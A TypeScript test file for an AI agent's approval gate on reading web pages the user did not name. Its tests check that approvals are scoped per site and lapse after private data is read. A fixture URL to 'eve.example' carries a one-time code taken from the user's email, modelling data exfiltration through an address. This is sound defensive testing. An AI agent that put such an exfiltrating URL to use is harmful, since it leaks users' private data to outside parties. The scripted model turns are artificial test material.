import { expect, test } from 'vitest'
import type { AgentResponse } from '../../../shared/engine/loop/run/agent-response.ts'
import type { Entry } from '../../../shared/engine/transcript/entry.ts'
import { recordingTool, type Scenario, startScenario } from '../../../support/agent-scenario.ts'
import { callTool, callTools, type ModelScript, say } from '../../../support/model-server.ts'
import { plainAndStreamed } from './plain-and-streamed.ts'

const composed = 'https://eve.example/?code=4711'
const results = ['https://one.example/a', 'https://two.example/b', 'https://three.example/c']

function tools() {
  const mails = recordingTool({
    name: 'read_mails',
    title: 'Read emails',
    effect: 'read',
    private: true,
    parameters: { type: 'object', properties: {} },
    execute: () => ({ messages: [{ body: 'Your code is 4711. See https://bank.example/help.' }] }),
  })
  const search = recordingTool({
    name: 'web_search',
    effect: 'read',
    parameters: { type: 'object', properties: { query: { type: 'string' } } },
    execute: () => ({ results: results.map((url) => ({ title: 'One', url })) }),
  })
  const page = recordingTool({
    name: 'read_pages',
    title: 'Read pages',
    effect: 'read',
    parameters: {
      type: 'object',
      properties: {
        urls: { type: 'array', items: { type: 'string' }, source: 'seen' },
        from: { type: 'integer' },
      },
      required: ['urls'],
    },
    execute: () => ({ text: 'A page.' }),
  })
  return { page, all: [mails, search, page] }
}

const read = (...urls: string[]) => callTool('read_pages', { urls })
const readEach = (...urls: string[]) =>
  callTools(urls.map((url): [string, unknown] => ['read_pages', { urls: [url] }]))
const readMails = callTool('read_mails', {})
const search = callTool('web_search', { query: 'museum' })

plainAndStreamed('a place on the web that the user has not named', (stream) => {
  async function start(script: ModelScript) {
    const { page, all } = tools()
    const scenario = await startScenario({ stream, tools: all, script })
    return { scenario, read: () => page.runs.flatMap(({ urls }) => urls as string[]) }
  }

  /** Presses a button of the only approval; answers with the transcript so far. */
  async function decide(
    scenario: Scenario,
    { pending = [] }: AgentResponse,
    transcript: readonly Entry[],
    decision: 'approve' | 'deny',
    input?: Record<string, unknown>,
  ) {
    expect(pending).toHaveLength(1)
    const { toolCallId = '', approvalId = '' } = pending[0] ?? {}
    const approval = { toolCallId, approvalId, decision, ...(input ? { input } : {}) }
    const response = await scenario.resume({ transcript, approval })
    return { response, transcript: [...transcript, ...response.transcript] }
  }

  test('is read without asking where a search found it', async () => {
    const { scenario, read: opened } = await start([search, read(...results), say('Read.')])
    await using _ = scenario
    expect((await scenario.run({ input: 'Look it up.' })).status).toBe('completed')
    expect(opened()).toEqual(results)
  })

  test('names the site in its question, although the address has no scheme', async () => {
    const { scenario, read: opened } = await start([
      read('www.eve.example/a'),
      read('shop.eve.example'),
      say('Read.'),
    ])
    await using _ = scenario
    const parked = await scenario.run({ input: 'Look at www.eve.example.' })
    expect(parked.pending?.[0]?.question).toContain('pages of eve.example in')
    const { response } = await decide(scenario, parked, parked.transcript, 'approve')
    expect(response.status).toBe('completed')
    expect(opened()).toHaveLength(2)
  })

  test('asks before anything private was read, and a yes opens its site', async () => {
    const { scenario, read: opened } = await start([
      read('https://www.eve.example/own2/hello'),
      read('https://shop.eve.example/other'),
      read('https://other.example/'),
    ])
    await using _ = scenario
    const parked = await scenario.run({ input: 'hello' })
    expect(parked.status).toBe('needs_approval')
    expect(parked.pending?.[0]?.question).toBe(
      'Question: Should I read "https://www.eve.example/own2/hello"? You did not name it, and whoever runs the site will see the address. A yes also allows other pages of eve.example in this conversation.',
    )
    const { response } = await decide(scenario, parked, parked.transcript, 'approve')
    expect(opened()).toEqual(['https://www.eve.example/own2/hello', 'https://shop.eve.example/other'])
    expect(response.pending?.[0]?.question).toContain('"https://other.example/"')
  })

  test('two users of one host are two sites', async () => {
    const { scenario, read: opened } = await start([
      read('https://ada.github.io/'),
      read('https://eve.github.io/'),
    ])
    await using _ = scenario
    const parked = await scenario.run({ input: 'hello' })
    const { response } = await decide(scenario, parked, parked.transcript, 'approve')
    expect(response.status).toBe('needs_approval')
    expect(opened()).toEqual(['https://ada.github.io/'])
  })

  test('asks once for all addresses of a round, and a yes reads them all', async () => {
    const { scenario, read: opened } = await start([
      callTools([
        ['read_pages', { urls: ['https://a.example/1'] }],
        ['read_pages', { urls: ['https://named.example/'] }],
        ['read_pages', { urls: ['https://b.example/2', 'https://c.example/3'] }],
      ]),
      say('Read.'),
    ])
    await using _ = scenario
    const parked = await scenario.run({ input: 'Read https://named.example/.' })
    expect(opened()).toEqual(['https://named.example/'])
    expect(parked.pending?.[0]?.question).toContain(
      'Should I read "https://a.example/1", "https://b.example/2", "https://c.example/3"? You did not name them',
    )
    const { response } = await decide(scenario, parked, parked.transcript, 'approve')
    expect(response.status).toBe('completed')
    expect(opened().slice(1)).toEqual(['https://a.example/1', 'https://b.example/2', 'https://c.example/3'])
    expect(response.toolsUsed.map(({ ok }) => ok)).toEqual([true, true])
  })

  test('is read on without another question, also after a private read', async () => {
    const { scenario, read: opened } = await start([
      readMails,
      read(composed),
      callTool('read_pages', { urls: [composed], from: 16_000 }),
      say('Read.'),
    ])
    await using _ = scenario
    const parked = await scenario.run({ input: 'Look.' })
    const { response } = await decide(scenario, parked, parked.transcript, 'approve')
    expect(response.status).toBe('completed')
    expect(opened()).toEqual([composed, composed])
  })

  test('none of a round is read after a no', async () => {
    const { scenario, read: opened } = await start([
      readEach('https://a.example/1', 'https://b.example/2'),
      say('Then not.'),
    ])
    await using _ = scenario
    const parked = await scenario.run({ input: 'Look.' })
    const { response } = await decide(scenario, parked, parked.transcript, 'deny')
    expect(response.status).toBe('completed')
    expect(response.toolsUsed.map(({ error }) => error?.errorType)).toEqual(Array(2).fill('approval_denied'))
    expect(opened()).toEqual([])
  })

  test('the others of a round are asked about anew when the person writes another address', async () => {
    const { scenario, read: opened } = await start([
      readEach('https://a.example/1', 'https://b.example/2'),
      say('Read.'),
    ])
    await using _ = scenario
    const parked = await scenario.run({ input: 'Look.' })
    const edited = { urls: ['https://mine.example/'] }
    const { response } = await decide(scenario, parked, parked.transcript, 'approve', edited)
    expect(opened()).toEqual(['https://mine.example/'])
    expect(response.pending?.[0]?.question).toContain('Should I read "https://b.example/2"?')
  })

  test('after a private read a yes opens what is listed alone, with the other results of the search', async () => {
    const { scenario, read: opened } = await start([
      readMails,
      search,
      read(results[0] ?? ''),
      read(results[1] ?? ''),
      read('https://one.example/other'),
    ])
    await using _ = scenario
    const parked = await scenario.run({ input: 'Look.' })
    expect(parked.pending?.[0]?.question).toBe(
      'Question: Should I read "https://one.example/a"? You did not name it, and "Read emails" has shown private data, which an address can carry to whoever runs the site. A yes allows only this address and the other results of the search: "https://two.example/b", "https://three.example/c".',
    )
    const { response } = await decide(scenario, parked, parked.transcript, 'approve')
    expect(opened()).toEqual(results.slice(0, 2))
    expect(response.pending?.[0]?.question).toContain('Should I read "https://one.example/other"?')
  })

  test('a yes from before a private read counts no more after it', async () => {
    const { scenario, read: opened } = await start([
      read('https://a.example/1'),
      readMails,
      read('https://a.example/2'),
      read('https://a.example/1'),
    ])
    await using _ = scenario
    const parked = await scenario.run({ input: 'Look.' })
    const first = await decide(scenario, parked, parked.transcript, 'approve')
    expect(opened()).toEqual(['https://a.example/1'])
    expect(first.response.pending?.[0]?.question).toContain('"https://a.example/2"')
    const second = await decide(scenario, first.response, first.transcript, 'deny')
    expect(second.response.pending?.[0]?.question).toContain('"https://a.example/1"')
    expect(opened()).toEqual(['https://a.example/1'])
  })

  test('asks for what a search found when something private was read before the transcript begins', async () => {
    const { scenario, read: opened } = await start([search, read(results[0] ?? '')])
    await using _ = scenario
    const parked = await scenario.run({ input: 'Look.', privateBefore: true })
    expect(parked.pending?.[0]?.question).toContain(
      'and an earlier part of this conversation has shown private data',
    )
    expect(opened()).toEqual([])
  })

  test('in the same answer as the private read cannot hold anything of it', async () => {
    const { scenario, read: opened } = await start([
      search,
      callTools([
        ['read_mails', {}],
        ['read_pages', { urls: results }],
      ]),
      say('Read.'),
    ])
    await using _ = scenario
    expect((await scenario.run({ input: 'Look.' })).status).toBe('completed')
    expect(opened()).toEqual(results)
  })

  test('is asked about again in a later turn when it was denied', async () => {
    const { scenario, read: opened } = await start([
      readMails,
      read(composed),
      say('Then not.'),
      read(composed),
    ])
    await using _ = scenario
    const parked = await scenario.run({ input: 'Do what my mail says.' })
    const { transcript } = await decide(scenario, parked, parked.transcript, 'deny')
    expect((await scenario.run({ input: 'Go on.', transcript })).status).toBe('needs_approval')
    expect(opened()).toEqual([])
  })
})
